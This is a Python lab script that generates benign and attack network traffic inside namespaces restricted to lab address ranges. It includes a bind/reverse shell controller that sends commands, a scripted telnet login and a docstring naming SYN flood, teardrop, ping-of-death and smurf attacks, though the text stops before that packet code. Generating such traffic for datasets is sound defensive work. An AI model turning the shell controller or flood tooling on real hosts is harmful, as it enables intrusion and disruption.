#!/usr/bin/env python3
"""Small stdlib-only helpers that lab/run.py starts INSIDE lab network namespaces (never in the root one).

Subcommands:
  inetd     a minimal inetd: accept on a port, fork, hand the socket as fd 0/1/2 to a program (telnetd)
  smtpd     a small SMTP server (EHLO, AUTH PLAIN/LOGIN, MAIL, RCPT, DATA) writing into a Maildir
  webapp    the web namespace's app behind nginx: JSON API, uploads and a form login
  sntp      an NTP (SNTP v4) client query
  mail      benign POP3/IMAP/SMTP client sessions
  persist   one long-lived benign connection with sporadic traffic (HTTP/HTTPS keep-alive polling, IMAP NOOPs)
  telnet    a scripted telnet login + commands (benign sessions and U2R sessions)
  shell     attacker's side of a bind shell (connect) or reverse shell (listen): sends commands, reads output
  craft     raw packets: spoofed SYN flood, teardrop, ping of death, smurf (IPv4 broadcast), smurf6 (ff02::1)
  udpd      the server side of quic and call: UDP 443 (QUIC-shaped), 3478 (STUN), RTP/RTCP media ports
  quic      a QUIC-shaped UDP/443 session: padded Initial, handshake flight, objects, acks, idle, close
  call      a STUN binding, then an RTP audio or video stream both ways with RTCP (VoIP, video calls)
  chatter   benign LAN chatter: NetBIOS name queries (segment broadcast), LLMNR and mDNS queries and SSDP
            searches (link-scope multicast, never routed: TTL / hop limit 1)

Every address given to `craft`, `shell`, `sntp`, `mail`, `persist`, `telnet`, `quic`, `call` and `chatter` is checked
against the lab ranges (10.77.0.0/16, fd77::/48) and refused otherwise; `chatter` sends only to its segment's broadcast address
(a lab address) and to the link-scope groups in ``CHATTER_GROUPS``, with a TTL / hop limit of 1.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import ipaddress
import json
import os
import random
import select
import signal
import socket
import socketserver
import struct
import threading
import time
import warnings
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar
from urllib.parse import parse_qs, urlparse

LAB_NETS = (ipaddress.ip_network("10.77.0.0/16"), ipaddress.ip_network("fd77::/48"))


def lab_addr(a: str) -> str:
    """Refuse any address outside the lab ranges (broadcast of a lab subnet and ff02::1 are allowed)."""
    a = a.split("%")[0]
    ip = ipaddress.ip_address(a)
    if ip == ipaddress.ip_address("ff02::1"):
        return a
    if not any(ip in n for n in LAB_NETS):
        raise SystemExit(f"refusing non-lab address {a}")
    return a


# ---------------------------------------------------------------- chatter
# Link-scope multicast only: 224.0.0.0/24 and ff02::/16 are never forwarded by a router, and 239.255.255.250
# (SSDP) is sent with TTL 1, so it cannot leave the segment either.
CHATTER_GROUPS = {
    "llmnr": ("224.0.0.252", "ff02::1:3", 5355),
    "mdns": ("224.0.0.251", "ff02::fb", 5353),
    "ssdp": ("239.255.255.250", "ff02::c", 1900),
}


def dns_query(name: str, qtype: int, qclass: int = 1, txid: int = 0) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".")) + b"\0"
    return struct.pack(">HHHHHH", txid, 0, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, qclass)


def netbios_query(name: str, txid: int) -> bytes:
    """A NetBIOS name query (RFC 1002), broadcast flag set: the name, space-padded to 15, suffix 0x00,
    first-level encoded (each nibble + 'A')."""
    raw = name.upper()[:15].ljust(15).encode() + b"\0"
    enc = bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 0xF)))
    return struct.pack(">HHHHHH", txid, 0x0110, 1, 0, 0, 0) + bytes([32]) + enc + b"\0" + struct.pack(">HH", 0x20, 1)


def cmd_chatter(a: argparse.Namespace) -> None:
    src = lab_addr(a.src)
    rng = random.Random(a.seed)
    v6 = ":" in src
    dst: tuple[str, int] | tuple[str, int, int, int]
    if a.kind == "netbios":
        dst = (lab_addr(a.bcast), 137)  # refused before any socket exists, as before
        sk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sk.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sk.bind((src, 137))  # as Windows sends them (nmbd may hold 137 on a server: then any port)
        except OSError:
            sk.bind((src, 0))
        packets = [netbios_query(rng.choice(a.names.split(",")), rng.randrange(65536)) for _ in range(a.count)]
    else:
        g4, g6, port = CHATTER_GROUPS[a.kind]
        name = rng.choice(a.names.split(","))  # drawn for every kind: the seed's later draws stay as they were
        if a.kind == "ssdp":
            host = f"[{g6}]" if v6 else g4
            st = rng.choice(["ssdp:all", "upnp:rootdevice", "urn:dial-multiscreen-org:service:dial:1"])
            body = f'M-SEARCH * HTTP/1.1\r\nHOST: {host}:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: {st}\r\n\r\n'
            packets = [body.encode()] * a.count
        else:
            full = name if a.kind == "llmnr" else name + ".local"
            qtype = rng.choice([1, 28, 255]) if a.kind == "llmnr" else rng.choice([1, 28, 12])
            packets = [dns_query(full, qtype, txid=rng.randrange(65536) if a.kind == "llmnr" else 0)] * a.count
        if v6:
            sk = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            idx = socket.if_nametoindex(a.iface)
            sk.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, idx)
            sk.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
            sk.bind((src, port if a.kind == "mdns" else 0, 0, idx))
            dst = (g6, port, 0, idx)
        else:
            sk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sk.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
            sk.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
            sk.bind((src, port if a.kind == "mdns" else 0))
            dst = (g4, port)
    with sk:
        for pkt in packets:
            sk.sendto(pkt, dst)
            time.sleep(rng.uniform(0.2, 1.0))
        sk.settimeout(1.0)
        with contextlib.suppress(OSError):
            sk.recvfrom(2048)  # an answer, if any host has the name (nmbd does for its own)


# ---------------------------------------------------------------- inetd
def cmd_inetd(a: argparse.Namespace) -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", a.port))
    s.listen(64)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        c, _ = s.accept()
        pid = os.fork()
        if pid == 0:
            s.close()
            os.setsid()
            for fd in (0, 1, 2):
                os.dup2(c.fileno(), fd)
            c.close()
            os.execv(a.argv[0], a.argv)
        c.close()


# ---------------------------------------------------------------- smtpd
class SMTPHandler(socketserver.StreamRequestHandler):
    cfg: ClassVar[dict] = {}

    def out(self, line: str) -> None:
        self.wfile.write((line + "\r\n").encode())
        self.wfile.flush()

    def handle(self) -> None:
        cfg = self.cfg
        self.out(f"220 {cfg['name']} ESMTP Postfix (Debian/GNU)")
        mail_from, authed = None, False
        rcpts: list[str] = []
        while True:
            line = self.rfile.readline(4096)
            if not line:
                return
            cmd = line.decode(errors="replace").strip()
            up = cmd.upper()
            if up.startswith(("EHLO", "HELO")):
                if up.startswith("EHLO"):
                    self.wfile.write(
                        f"250-{cfg['name']}\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
                        "250-AUTH PLAIN LOGIN\r\n250-8BITMIME\r\n250 SMTPUTF8\r\n".encode()
                    )
                    self.wfile.flush()
                else:
                    self.out(f"250 {cfg['name']}")
            elif up.startswith("AUTH"):
                parts = cmd.split()
                user = pw = None
                try:
                    if len(parts) >= 2 and parts[1].upper() == "PLAIN":
                        if len(parts) == 2:
                            self.out("334 ")
                            blob = self.rfile.readline().strip()
                        else:
                            blob = parts[2].encode()
                        _, user, pw = base64.b64decode(blob).decode(errors="replace").split("\0")
                    elif len(parts) >= 2 and parts[1].upper() == "LOGIN":
                        if len(parts) == 3:
                            user = base64.b64decode(parts[2]).decode(errors="replace")
                        else:
                            self.out("334 VXNlcm5hbWU6")
                            user = base64.b64decode(self.rfile.readline().strip()).decode(errors="replace")
                        self.out("334 UGFzc3dvcmQ6")
                        pw = base64.b64decode(self.rfile.readline().strip()).decode(errors="replace")
                except Exception:
                    self.out("501 5.5.2 Cannot decode response")
                    continue
                if user == cfg["user"] and pw == cfg["password"]:
                    authed = True
                    self.out("235 2.7.0 Authentication successful")
                else:
                    time.sleep(0.3)
                    self.out("535 5.7.8 Error: authentication failed: authentication failure")
            elif up.startswith("MAIL FROM"):
                mail_from, rcpts = cmd[10:].strip(), []
                self.out("250 2.1.0 Ok")
            elif up.startswith("RCPT TO"):
                if mail_from is None:
                    self.out("503 5.5.1 Error: need MAIL command")
                else:
                    rcpts.append(cmd[8:].strip())
                    self.out("250 2.1.5 Ok")
            elif up == "DATA":
                if not rcpts:
                    self.out("554 5.5.1 Error: no valid recipients")
                    continue
                self.out("354 End data with <CR><LF>.<CR><LF>")
                body = []
                while True:
                    dl = self.rfile.readline(65536)
                    if not dl or dl in (b".\r\n", b".\n"):
                        break
                    body.append(dl)
                qid = f"{random.getrandbits(40):010X}"
                md = cfg.get("maildir")
                if md:
                    try:
                        with open(os.path.join(md, "new", f"{time.time():.6f}.{qid}.lab"), "wb") as f:
                            f.write(b"".join(body))
                    except OSError:
                        pass
                self.out(f"250 2.0.0 Ok: queued as {qid}")
                mail_from, rcpts = None, []
            elif up == "RSET":
                mail_from, rcpts = None, []
                self.out("250 2.0.0 Ok")
            elif up == "NOOP":
                self.out("250 2.0.0 Ok")
            elif up == "QUIT":
                self.out("221 2.0.0 Bye")
                return
            elif up.startswith("VRFY"):
                self.out("252 2.0.0 Cannot VRFY user")
            else:
                self.out("502 5.5.2 Error: command not recognized")
            _ = authed


class DualStackTCPServer(socketserver.ThreadingTCPServer):
    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True

    def server_bind(self) -> None:
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()


def cmd_smtpd(a: argparse.Namespace) -> None:
    SMTPHandler.cfg = {"name": a.name, "user": a.user, "password": a.password, "maildir": a.maildir}
    DualStackTCPServer(("::", a.port), SMTPHandler).serve_forever()


# ---------------------------------------------------------------- webapp
class AppHandler(BaseHTTPRequestHandler):
    server_version = "gunicorn"
    sys_version = ""
    cfg: ClassVar[dict] = {}

    def log_message(self, *args) -> None:  # quiet
        pass

    def send(self, code: int, body: bytes, ctype: str = "application/json", headers: dict | None = None) -> None:
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self) -> None:
        u = urlparse(self.path)
        q = parse_qs(u.query)
        if u.path.startswith("/api/status"):
            self.send(200, json.dumps({"status": "ok", "ts": time.time(), "load": random.random()}).encode())
        elif u.path.startswith("/api/items"):
            page = int((q.get("page") or ["1"])[0]) if (q.get("page") or ["1"])[0].isdigit() else 1
            items = [
                {"id": page * 100 + i, "name": f"item-{page}-{i}", "price": round(random.random() * 90, 2)}
                for i in range(random.randint(5, 40))
            ]
            self.send(200, json.dumps({"page": page, "items": items}).encode())
        elif u.path.startswith("/api/"):
            self.send(404, b'{"error":"not found"}')
        elif u.path.startswith("/app/login"):
            self.send(
                200,
                b"<html><body><form method='post' action='/app/login'>"
                b"<input name='username'><input name='password' type='password'>"
                b"<button>Sign in</button></form></body></html>",
                "text/html",
            )
        elif u.path.startswith("/app/home"):
            if "session=" in (self.headers.get("Cookie") or ""):
                self.send(200, b"<html><body>Welcome back. <a href='/app/logout'>logout</a></body></html>", "text/html")
            else:
                self.send(302, b"", "text/html", {"Location": "/app/login"})
        else:
            self.send(404, b"<html><body>Not Found</body></html>", "text/html")

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_POST(self) -> None:
        n = min(int(self.headers.get("Content-Length") or 0), 50_000_000)
        body = self.rfile.read(n) if n else b""
        u = urlparse(self.path)
        if u.path.startswith("/app/login"):
            f = parse_qs(body.decode(errors="replace"))
            user = (f.get("username") or [""])[0]
            pw = (f.get("password") or [""])[0]
            if user == self.cfg["user"] and pw == self.cfg["password"]:
                self.send(
                    302,
                    b"",
                    "text/html",
                    {"Location": "/app/home", "Set-Cookie": f"session={random.getrandbits(64):x}; HttpOnly"},
                )
            else:
                self.send(200, b"<html><body>Invalid username or password</body></html>", "text/html")
        elif u.path.startswith("/api/"):
            self.send(201, json.dumps({"received": len(body), "id": random.getrandbits(32)}).encode())
        else:
            self.send(405, b"<html><body>Method Not Allowed</body></html>", "text/html")


def cmd_webapp(a: argparse.Namespace) -> None:
    AppHandler.cfg = {"user": a.user, "password": a.password}
    srv = ThreadingHTTPServer((a.bind, a.port), AppHandler)
    srv.daemon_threads = True
    srv.serve_forever()


# ---------------------------------------------------------------- sntp
def cmd_sntp(a: argparse.Namespace) -> None:
    host = lab_addr(a.server)
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    for _ in range(a.count):
        now = time.time() + 2208988800
        pkt = struct.pack("!BBBb11I", (0 << 6) | (4 << 3) | 3, 0, 6, -20, *([0] * 9), int(now), int((now % 1) * 2**32))
        s.sendto(pkt, (host, 123))
        with contextlib.suppress(OSError):
            s.recvfrom(512)
        time.sleep(a.interval)


# ---------------------------------------------------------------- mail client
def cmd_mail(a: argparse.Namespace) -> None:
    import imaplib
    import poplib
    import smtplib

    host = lab_addr(a.host)
    if a.proto == "pop3":
        p = poplib.POP3(host, 110, timeout=10)
        p.user(a.user)
        p.pass_(a.password)
        n, _ = p.stat()
        for i in range(1, min(n, a.max) + 1):
            p.retr(i)
        p.quit()
    elif a.proto == "imap":
        m = imaplib.IMAP4(host, 143, timeout=10)
        m.login(a.user, a.password)
        m.select("INBOX")
        _, data = m.search(None, "ALL")
        for num in (data[0].split() if data and data[0] else [])[: a.max]:
            m.fetch(num, "(RFC822)")
        m.logout()
    else:
        s = smtplib.SMTP(host, 25, timeout=10)
        s.ehlo("client.lab")
        if a.password:
            s.login(a.user, a.password)
        for i in range(a.max):
            body = f"Subject: report {i}\r\n\r\n{'lorem ipsum dolor sit amet ' * random.randint(5, 400)}\r\n"
            s.sendmail(f"{a.user}@lab", [f"{a.user}@lab"], body)
        s.quit()


# ---------------------------------------------------------------- persist
def _finish(sock: socket.socket | None, end: str) -> None:
    """End one long-lived connection the way its end mode says: ``fin`` (an orderly close), ``rst`` (an abort:
    linger 0 makes the kernel send a RST, as a client killed or a browser tab closed does), ``hang`` (no end: the
    socket stays open until the lab kills this process, after its capture has stopped)."""
    if end == "hang":
        time.sleep(1e6)
    if sock is None:
        return
    if end == "rst":
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    with contextlib.suppress(OSError):
        sock.close()


def cmd_persist(a: argparse.Namespace) -> None:
    """One long-lived client connection with sporadic traffic, for --seconds: what keeps a real host's sockets
    open for minutes (keep-alive HTTP(S) polling, a mail client idling with NOOPs). A capture that starts or ends
    while it is open sees it mid-stream (no handshake: conn_state OTH) or unfinished (S1, or S3 where the server
    gave up on it), the shapes the lab's short connections never leave at a capture's edge. If the server closes
    the connection (keep-alive timeout), the client opens a new one, as browsers do. ``--end hang`` stops sending
    and keeps the socket open until the lab kills the process after the capture has stopped."""
    import http.client
    import imaplib
    import ssl

    rng = random.Random(a.seed)
    host = lab_addr(a.host)
    stop = time.monotonic() + a.seconds
    paths = [x for x in a.paths.split(",") if x] or ["/"]

    def gap() -> None:
        time.sleep(min(rng.uniform(a.gap_min, a.gap_max), max(0.0, stop - time.monotonic())))

    if a.proto == "imap":
        m: imaplib.IMAP4 | None = None
        while time.monotonic() < stop:
            try:
                if m is None:
                    m = imaplib.IMAP4(host, a.port, timeout=10)
                    m.login(a.user, a.password)
                    m.select("INBOX")
                if rng.random() < 0.8:
                    m.noop()
                else:
                    m.search(None, "UNSEEN")
            except (OSError, imaplib.IMAP4.error):
                m = None
            gap()
        sock = m.sock if m is not None else None
        if m is not None and a.end == "fin":  # an orderly IMAP goodbye, not just a closed socket
            with contextlib.suppress(OSError, imaplib.IMAP4.error):
                m.logout()
            sock = None
        _finish(sock, a.end)
        return
    ctx = ssl._create_unverified_context()  # the lab's self-signed certificate
    conn: http.client.HTTPConnection | None = None
    while time.monotonic() < stop:
        try:
            if conn is None:
                conn = (
                    http.client.HTTPSConnection(host, a.port, timeout=10, context=ctx)
                    if a.proto == "https"
                    else http.client.HTTPConnection(host, a.port, timeout=10)
                )
            conn.request("GET", rng.choice(paths), headers={"Host": a.vhost, "Connection": "keep-alive"})
            r = conn.getresponse()
            r.read()
            if r.will_close:
                conn.close()
                conn = None
        except (OSError, http.client.HTTPException):
            if conn is not None:
                conn.close()
            conn = None
        gap()
    _finish(conn.sock if conn is not None else None, a.end)


# ---------------------------------------------------------------- modern UDP: QUIC-shaped transfers, STUN + RTP calls
# Real QUIC needs a QUIC stack the lab's Debian packages do not have (bookworm's curl and nginx are built without
# HTTP/3), so `quic` reproduces QUIC's shape on the wire, which is all a flow meter sees: a client Initial padded to
# 1,200 bytes (long header, version 1), the server's Initial + Handshake flight, then short-header packets: small
# requests, the answer in datagrams of up to 1,200 bytes, the client acknowledging every few, several objects over
# one connection (one UDP 4-tuple), an idle gap, a close. `call` is a real-time media session as VoIP and video
# conferencing clients make one: a STUN binding request/response (RFC 5389) to port 3478, then RTP (RFC 3550) both
# ways every 20 ms (audio) or ~33 ms with larger packets (video) on an even high port, with RTCP on the next port.
# The payloads are random bytes (encrypted media and QUIC look like that too); the server learns what to send from
# fields at fixed offsets of the client's datagrams.
QUIC_MAX = 1200
STUN_COOKIE = 0x2112A442
MEDIA_PORTS = (16384, 16447)  # the media server's RTP ports (even) and RTCP ports (odd)
QUIC_REQUEST = b"NTAQ"  # marks a request inside a short-header datagram; then >IH: object bytes, pacing in us
QUIC_MAX_OBJECT = 16 << 20


def peer_ip(addr: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address:
    """A datagram's source address (IPv4 peers of a dual-stack socket come as ::ffff:a.b.c.d: unwrapped)."""
    ip = ipaddress.ip_address(addr.split("%")[0])
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        return ip.ipv4_mapped
    return ip


def lab_peer(addr: str) -> bool:
    """Whether a datagram's source is a lab address. The servers answer only such peers; the lab has no route
    out, so nothing else can reach them anyway."""
    ip = peer_ip(addr)
    return any(ip in n for n in LAB_NETS)


def quic_long(first: int, size: int, rng: random.Random, extra: bytes = b"") -> bytes:
    """A long-header datagram: first byte, version 1, 8-byte DCID and SCID, then ``extra`` and random padding."""
    head = bytes([first]) + struct.pack(">I", 1) + bytes([8]) + rng.randbytes(8) + bytes([8]) + rng.randbytes(8)
    return head + extra + rng.randbytes(max(0, size - len(head) - len(extra)))


def quic_short(size: int, rng: random.Random, extra: bytes = b"") -> bytes:
    """A short-header datagram (first byte 0b01xxxxxx, 8-byte DCID), ``extra`` after the header, random padding."""
    head = bytes([0x40 | rng.randrange(64)]) + rng.randbytes(8)
    return head + extra + rng.randbytes(max(0, size - len(head) - len(extra)))


def _serve_quic(sk: socket.socket, rng: random.Random) -> None:
    """Port 443: answer an Initial with the handshake flight, a request (``QUIC_REQUEST``, the object's size and the
    pacing between its datagrams) with the object, on a thread of its own."""
    while True:
        data, peer = sk.recvfrom(2048)
        if not data or not lab_peer(peer[0]):
            continue
        if data[0] & 0x80 and len(data) >= QUIC_MAX:
            sk.sendto(quic_long(0xC1, QUIC_MAX, rng), peer)  # server Initial (ServerHello)
            sk.sendto(quic_long(0xE1, rng.randrange(900, QUIC_MAX), rng), peer)  # Handshake (certificate)
        elif not data[0] & 0x80 and len(data) >= 19 and data[9:13] == QUIC_REQUEST:
            size, pace_us = struct.unpack_from(">IH", data, 13)
            size, pace = min(size, QUIC_MAX_OBJECT), pace_us / 1e6
            threading.Thread(
                target=_send_object, args=(sk, peer, size, pace, rng.randrange(1 << 30)), daemon=True
            ).start()


def _send_object(sk: socket.socket, peer: tuple, size: int, pace: float, seed: int) -> None:
    rng = random.Random(seed)
    sent = 0
    while sent < size:
        n = min(QUIC_MAX - 9, size - sent)
        sk.sendto(quic_short(n + 9, rng), peer)
        sent += n
        if pace:
            time.sleep(pace)


def cmd_quic(a: argparse.Namespace) -> None:
    """A QUIC-shaped session (see above): handshake, ``--objects`` requests of drawn sizes, acks, idle, close."""
    rng = random.Random(a.seed)
    host = lab_addr(a.host)
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(fam, socket.SOCK_DGRAM) as sk:
        sk.connect((host, a.port))
        sk.settimeout(2.0)
        sk.send(quic_long(0xC3, QUIC_MAX, rng))  # client Initial, padded to 1,200 as RFC 9000 requires
        with contextlib.suppress(OSError):
            sk.recv(2048)
            sk.recv(2048)
        sk.send(quic_long(0xE3, rng.randrange(80, 160), rng))  # client Handshake (Finished)
        for _ in range(a.objects):
            size = int(rng.lognormvariate(a.size_mu, 1.2))
            size = max(200, min(size, a.max_kb * 1024))
            pace = rng.choice([0, 50, 200, 800])  # microseconds between the server's datagrams
            sk.send(quic_short(rng.randrange(40, 90), rng, QUIC_REQUEST + struct.pack(">IH", size, pace)))
            got, every = 0, rng.randrange(2, 6)
            datagrams = 0
            with contextlib.suppress(OSError):
                while got < size:
                    got += len(sk.recv(2048)) - 9
                    datagrams += 1
                    if datagrams % every == 0:
                        sk.send(quic_short(rng.randrange(30, 50), rng))  # ACK
            sk.send(quic_short(rng.randrange(30, 50), rng))
            time.sleep(rng.expovariate(1 / a.think))
        time.sleep(rng.uniform(0, a.idle))  # an open connection with nothing to say
        sk.send(quic_short(rng.randrange(30, 60), rng))  # CONNECTION_CLOSE


def stun_request(txid: bytes) -> bytes:
    return struct.pack(">HHI", 0x0001, 0, STUN_COOKIE) + txid


def stun_response(txid: bytes, peer: tuple) -> bytes:
    ip = peer_ip(peer[0])
    port = peer[1] ^ (STUN_COOKIE >> 16)
    if ip.version == 4:
        addr = int(ip) ^ STUN_COOKIE
        value = struct.pack(">BBHI", 0, 1, port, addr)
    else:
        mask = int.from_bytes(struct.pack(">I", STUN_COOKIE) + txid, "big")
        value = struct.pack(">BBH", 0, 2, port) + (int(ip) ^ mask).to_bytes(16, "big")
    attr = struct.pack(">HH", 0x0020, len(value)) + value  # XOR-MAPPED-ADDRESS
    return struct.pack(">HHI", 0x0101, len(attr), STUN_COOKIE) + txid + attr


def rtp_packet(seq: int, ts: int, ssrc: int, pt: int, size: int, rng: random.Random) -> bytes:
    return struct.pack(">BBHII", 0x80, pt, seq & 0xFFFF, ts & 0xFFFFFFFF, ssrc) + rng.randbytes(size)


def _serve_stun(sk: socket.socket) -> None:
    while True:
        data, peer = sk.recvfrom(2048)
        if not lab_peer(peer[0]):
            continue
        if len(data) >= 20 and struct.unpack_from(">HHI", data)[0::2] == (0x0001, STUN_COOKIE):
            sk.sendto(stun_response(data[8:20], peer), peer)


def _serve_media(sk: socket.socket, rtcp: bool, rng: random.Random) -> None:
    """An RTP port: for each new peer, send a stream back like the one received (size, 20 or ~33 ms) until the
    peer has been silent for 1.5 s. An RTCP port: answer each report with a receiver report."""
    last: dict[tuple, float] = {}
    lock = threading.Lock()

    def stream(peer: tuple, size: int, pt: int, seed: int) -> None:
        r = random.Random(seed)
        interval = 0.02 if size <= 200 else 0.033
        seq, ts, ssrc, t0, i = r.randrange(1 << 16), r.randrange(1 << 32), r.randrange(1 << 32), time.monotonic(), 0
        while True:
            with lock:
                if time.monotonic() - last[peer] > 1.5:
                    del last[peer]
                    return
            sk.sendto(
                rtp_packet(seq + i, ts + 160 * i, ssrc, pt, size + r.randrange(-8, 9) if size > 200 else size, r), peer
            )
            i += 1
            time.sleep(max(0.0, t0 + i * interval - time.monotonic()))

    while True:
        data, peer = sk.recvfrom(4096)
        if not lab_peer(peer[0]):
            continue
        if rtcp:
            sk.sendto(struct.pack(">BBHI", 0x81, 201, 7, rng.randrange(1 << 32)) + rng.randbytes(24), peer)
            continue
        with lock:
            new = peer not in last
            last[peer] = time.monotonic()
        if new and len(data) > 12:
            args = (peer, len(data) - 12, data[1] & 0x7F, rng.randrange(1 << 30))
            threading.Thread(target=stream, args=args, daemon=True).start()


def cmd_udpd(a: argparse.Namespace) -> None:
    """The server side of ``quic`` and ``call`` on every address of its namespace: UDP 443, 3478, media ports."""
    rng = random.Random(a.seed)
    fam = socket.AF_INET6  # a dual-stack socket: IPv4 peers arrive as ::ffff:a.b.c.d
    threads = []

    def sock(port: int) -> socket.socket:
        sk = socket.socket(fam, socket.SOCK_DGRAM)
        sk.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        sk.bind(("::", port))
        return sk

    # One socket per address on 443: a socket bound to :: would answer from the namespace's primary address, and
    # a client that sent to one of the other (CDN) addresses drops datagrams from any other source.
    quic = [sock(443)] if not a.addrs else []
    for addr in filter(None, a.addrs.split(",")):
        sk = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
        sk.bind((lab_addr(addr), 443))
        quic.append(sk)
    for sk in quic:
        threads.append(threading.Thread(target=_serve_quic, args=(sk, random.Random(rng.random())), daemon=True))
    threads.append(threading.Thread(target=_serve_stun, args=(sock(3478),), daemon=True))
    for port in range(MEDIA_PORTS[0], MEDIA_PORTS[1] + 1):
        args = (sock(port), port % 2 == 1, random.Random(rng.random()))
        threads.append(threading.Thread(target=_serve_media, args=args, daemon=True))
    for t in threads:
        t.start()
    while all(t.is_alive() for t in threads):
        time.sleep(0.5)
    raise SystemExit("udpd: a server thread ended")


def cmd_call(a: argparse.Namespace) -> None:
    """One call to ``--host``: STUN binding, then RTP both ways and RTCP every ~5 s for ``--seconds``."""
    rng = random.Random(a.seed)
    host = lab_addr(a.host)
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(fam, socket.SOCK_DGRAM) as stun:
        stun.settimeout(1.0)
        for _ in range(rng.randrange(1, 3)):  # a client often asks twice
            stun.sendto(stun_request(rng.randbytes(12)), (host, 3478))
            with contextlib.suppress(OSError):
                stun.recvfrom(2048)
    video = rng.random() < a.video
    size, interval, pt = (
        (rng.randrange(700, 1100), 1 / 30, 96) if video else (rng.choice([160, 80, 120]), 0.02, rng.choice([0, 8, 111]))
    )
    port = rng.randrange(MEDIA_PORTS[0], MEDIA_PORTS[1], 2)
    local = rng.randrange(20000, 40000, 2)
    rtp, rtcp = socket.socket(fam, socket.SOCK_DGRAM), socket.socket(fam, socket.SOCK_DGRAM)
    with rtp, rtcp:
        rtp.bind(("", local))
        rtcp.bind(("", local + 1))
        rtp.setblocking(False)
        seq, ts, ssrc = rng.randrange(1 << 16), rng.randrange(1 << 32), rng.randrange(1 << 32)
        t0 = time.monotonic()
        i, next_rtcp = 0, t0 + rng.uniform(1, 5)
        while time.monotonic() - t0 < a.seconds:
            jitter = rng.randrange(-8, 9) if video else 0
            rtp.sendto(rtp_packet(seq + i, ts + 160 * i, ssrc, pt, size + jitter, rng), (host, port))
            with contextlib.suppress(OSError):
                while True:
                    rtp.recv(4096)  # the far end's media
            if time.monotonic() >= next_rtcp:
                rtcp.sendto(struct.pack(">BBHI", 0x80, 200, 6, ssrc) + rng.randbytes(20), (host, port + 1))
                next_rtcp += rng.uniform(4, 6)
            i += 1
            time.sleep(max(0.0, t0 + i * interval - time.monotonic()))
        rtcp.sendto(struct.pack(">BBHI", 0x81, 203, 1, ssrc), (host, port + 1))  # BYE


# ---------------------------------------------------------------- telnet
def cmd_telnet(a: argparse.Namespace) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import telnetlib
    host = lab_addr(a.host)
    t = telnetlib.Telnet(host, a.port, timeout=15)
    t.read_until(b"login: ", 15)
    t.write(a.user.encode() + b"\r\n")
    t.read_until(b"assword: ", 15)
    t.write(a.password.encode() + b"\r\n")
    time.sleep(1.5)
    t.read_very_eager()
    for line in a.commands.split(";;"):
        line = line.strip("\n")
        if line.startswith("#sleep "):
            time.sleep(float(line.split()[1]))
            continue
        # typed char by char, as a person (or a script driving a pty) would
        for ch in line:
            t.write(ch.encode())
            time.sleep(random.uniform(0.02, 0.12) if a.typing else 0)
        t.write(b"\r\n")
        time.sleep(random.uniform(0.4, 1.5))
        try:
            t.read_very_eager()
        except EOFError:
            break
    try:
        t.write(b"exit\r\n")
        time.sleep(0.5)
        t.read_very_eager()
    except (EOFError, OSError):
        pass
    t.close()


# ---------------------------------------------------------------- shell (bind/reverse) controller
def cmd_shell(a: argparse.Namespace) -> None:
    if a.mode == "connect":
        host = lab_addr(a.host)
        c = socket.create_connection((host, a.port), timeout=15)
    else:
        bind = lab_addr(a.host)
        fam = socket.AF_INET6 if ":" in bind else socket.AF_INET
        ls = socket.socket(fam, socket.SOCK_STREAM)
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.bind((bind, a.port))
        ls.listen(1)
        ls.settimeout(a.wait)
        c, _ = ls.accept()
        ls.close()
    c.settimeout(None)
    for line in a.commands.split(";;"):
        c.sendall(line.encode() + b"\n")
        end = time.time() + random.uniform(0.5, 1.5)
        while time.time() < end:
            r, _, _ = select.select([c], [], [], 0.2)
            if r and not c.recv(65536):
                break
    try:
        c.sendall(b"exit\n")
        c.shutdown(socket.SHUT_WR)
        c.settimeout(3)
        while c.recv(65536):
            pass
    except OSError:
        pass
    c.close()


# ---------------------------------------------------------------- raw packet crafting
def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip4hdr(
